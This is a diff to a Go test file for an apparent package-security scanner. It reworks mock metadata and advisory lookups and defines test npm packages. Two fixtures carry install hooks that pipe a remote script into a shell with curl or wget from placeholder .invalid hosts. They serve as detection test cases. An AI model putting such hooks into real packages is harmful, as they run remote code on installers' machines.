@@ -25,6 +25,7 @@ import (
 	"github.com/lockwarden/lockwarden/app/github/octokit"
 	"github.com/lockwarden/lockwarden/app/store"
 	"github.com/lockwarden/lockwarden/app/store/storetest"
+	"github.com/lockwarden/lockwarden/known"
 )
 
 func TestMain(m *testing.M) { storetest.Main(m) }
@@ -32,11 +33,12 @@ func TestMain(m *testing.M) { storetest.Main(m) }
 // packages are what the stories install: small, written for the tests, inert by
 // construction (hosts end in .invalid), and analyzed by the real engine.
 var packages = map[string]map[string]string{
-	"vulnerable": {"index.js": "module.exports = 1\n"},
-	"quiet":      {"index.js": "module.exports = s => s.trim()\n"},
-	"scripts":    {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
-	"shell":      {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
-	"other":      {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
+	"vulnerable":   {"index.js": "module.exports = 1\n"},
+	"quiet":        {"index.js": "module.exports = s => s.trim()\n"},
+	"undocumented": {"package.json": `{"name":"undocumented","version":"VERSION","license":"MIT","repository":"github:a/a"}`},
+	"scripts":      {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
+	"shell":        {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
+	"other":        {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
 }
 
 // scanner analyzes the packages above in this process.
@@ -76,19 +78,26 @@ func (s *scanner) Scan(ctx context.Context, subject analyzer.Subject) (analyzer.
 	return analyzer.Scanned{Contents: c, Integrity: subject.Integrity}, err
 }
 
-func (s *scanner) Metadata(context.Context, string, string, string, bool) (issue.Metadata, error) {
-	return issue.Metadata{}, nil
+func (s *scanner) Metadata(_ context.Context, name, _, before string, _ bool) (known.Of[issue.Metadata], error) {
+	if strings.HasPrefix(name, "undocumented") {
+		return known.Not[issue.Metadata]("the registry answers 503"), nil
+	}
+	m := issue.Metadata{Exists: true}
+	if before != "" {
+		m.Before = &issue.Release{Version: before}
+	}
+	return known.Is(m), nil
 }
 
 // advisories cover the versions 1 of "vulnerable".
-func (s *scanner) Advisories(_ context.Context, packages []vulnerability.Package) ([][]vulnerability.Advisory, bool, error) {
+func (s *scanner) Advisories(_ context.Context, packages []vulnerability.Package) (known.Of[[][]vulnerability.Advisory], error) {
 	out := make([][]vulnerability.Advisory, len(packages))
 	for i, p := range packages {
 		if p.Name == "vulnerable" && strings.HasPrefix(p.Version, "1.") {
 			out[i] = []vulnerability.Advisory{{ID: "GHSA-xxxx", Summary: "Command injection", Severity: "high", Fixed: []string{"2.0.0"}}}
 		}
 	}
-	return out, true, nil
+	return known.Is(out), nil
 }
 
 func (s *scanner) ConfiguredHost(host string) bool { return host == "registry.example" }
